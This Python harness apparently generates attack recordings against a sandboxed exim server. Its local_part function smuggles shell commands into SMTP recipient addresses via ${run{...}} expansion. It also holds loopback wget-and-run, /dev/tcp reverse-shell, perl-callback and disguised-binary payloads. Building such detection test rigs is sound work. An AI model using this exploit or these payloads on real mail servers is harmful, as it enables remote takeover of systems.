"""The other side of the wire while a recording is made: mail client, web server, listener.

Not traced, not in the chroot; shares its network namespace, which has a loopback device and nothing else.
Takes one request a line from a FIFO and answers each with a line: `done`, or what went wrong.
"""

from __future__ import annotations

import queue
import smtplib
import socket
import string
import sys
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Final

HERE: Final = "127.0.0.1"
MAIL_DOMAIN: Final = "mail01.example.test"
OK: Final = 250
STRANGER: Final = "stranger@client.example.test"
SMTP_PORT: Final = 25
WEB_PORT: Final = 8080
LISTENER_PORT: Final = 4444
PATIENCE_S: Final = 20.0

# The "miner": leaves a mark, then is idle for longer than the merge window of the converter.
MINER: Final = b"""#!/bin/sh
mkdir -p /var/tmp/.cache
id >/var/tmp/.cache/report
exec sleep 2
"""

SHELL_LINES: Final[dict[str, str]] = {
    "fetch": '/bin/sh -c "cd /tmp; wget -q 127.0.0.1:8080/kworkerds; chmod 755 kworkerds; /tmp/kworkerds"',
    "reverse-bash": '/bin/bash -c "exec 3<>/dev/tcp/127.0.0.1/4444 && echo up >&3 && read line <&3"',
    "reverse-behind-sh": (
        "/bin/sh -c \"perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new(q(127.0.0.1:4444))} 1'\""
    ),
    "plant": "/usr/bin/install -D -m 755 /usr/bin/sleep /tmp/.x/grep",
    "run-planted": "/tmp/.x/grep 2",
}


class Web(BaseHTTPRequestHandler):
    """Serves the miner under any path."""

    def do_GET(self) -> None:
        """Answer with the script."""
        self.send_response(200)
        self.send_header("Content-Length", str(len(MINER)))
        self.end_headers()
        self.wfile.write(MINER)

    def log_message(self, *_: object) -> None:
        """Keep the terminal quiet."""


def local_part(shell_line: str) -> str:
    r"""Write a command line as a mail address that runs it when it is expanded once too often.

    The address is a quoted string, so a quote needs a backslash. What exim's rules for recipients refuse (a slash above
    all) becomes `\xHH`, which expansion decodes, with the backslash twice. It has to fit into 256 characters.
    """
    plain = frozenset(string.ascii_letters + string.digits + " -.:;,()<>='")
    written = {'"': '\\"'} | {c: c for c in plain}
    body = "".join(written.get(c, f"\\\\x{ord(c):02x}") for c in shell_line)
    # Looking for ESMTP parameters exim skips back over what it takes for a quoted string and writes "=" over the
    # blank before it: the tail gives it a string and a blank that do not matter.
    return f'"${{run{{{body}}}}} x\\""'


def send(recipient: str, subject: str, sender: str) -> None:
    """Hand one message to exim over SMTP.

    Raises:
        RuntimeError: exim refused a step.
    """
    with smtplib.SMTP(HERE, SMTP_PORT, local_hostname="client.example.test", timeout=PATIENCE_S) as client:
        client.ehlo()
        steps = [f"MAIL FROM:<{sender}>", f"RCPT TO:<{recipient}>"]
        for step in steps:
            code, text = client.docmd(step)
            if code != OK:
                msg = f"{step}: {code} {text!r}"
                raise RuntimeError(msg)
        code, text = client.data(
            f"Subject: {subject}\nFrom: <{sender or STRANGER}>\nTo: undisclosed-recipients:;\n\nHello.\n"
        )
        if code != OK:
            msg = f"data: {code} {text!r}"
            raise RuntimeError(msg)


def accept_for_ever(listener: socket.socket, seen: queue.Queue[str]) -> None:
    """Take each connection, read what it says, answer one line and close."""
    while True:
        connection, _ = listener.accept()
        with connection:
            connection.settimeout(PATIENCE_S)
            said = connection.recv(64)
            connection.sendall(b"bye\n")
        seen.put(said.decode("ascii", "replace"))


def answer(request: str, seen: queue.Queue[str]) -> None:
    """Do what one request line asks for."""
    verb, _, rest = request.partition(" ")
    if verb == "mail":
        recipient, _, subject = rest.partition(" ")
        send(recipient, subject, "postmaster@mail01.example.test")
    elif verb == "attack":
        send(f"{local_part(SHELL_LINES[rest])}@{MAIL_DOMAIN}", "hello", "")
    elif verb == "connected":
        seen.get(timeout=PATIENCE_S)
    else:
        msg = f"unknown request {verb}"
        raise RuntimeError(msg)


def in_background(work: Callable[[], None]) -> None:
    """Run a function until the process ends."""
    threading.Thread(target=work, daemon=True).start()


def main(stage: Path) -> None:
    """Serve until the namespace goes away."""
    seen: queue.Queue[str] = queue.Queue()
    listener = socket.create_server((HERE, LISTENER_PORT))
    in_background(lambda: accept_for_ever(listener, seen))
    in_background(ThreadingHTTPServer((HERE, WEB_PORT), Web).serve_forever)
    # Both ends are held open, so that neither side sees an end of file between two requests.
    with (
        (stage / "requests").open("r+b", buffering=0) as requests,
        (stage / "replies").open("r+b", buffering=0) as replies,
    ):
        (stage / "ready").touch()
        for line in iter(requests.readline, b""):
            try:
                answer(line.decode().strip(), seen)
            except (OSError, RuntimeError, KeyError, queue.Empty, smtplib.SMTPException) as error:
                replies.write(f"{type(error).__name__}: {error}\n".replace("\n", " ").strip().encode() + b"\n")
            else:
                replies.write(b"done\n")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
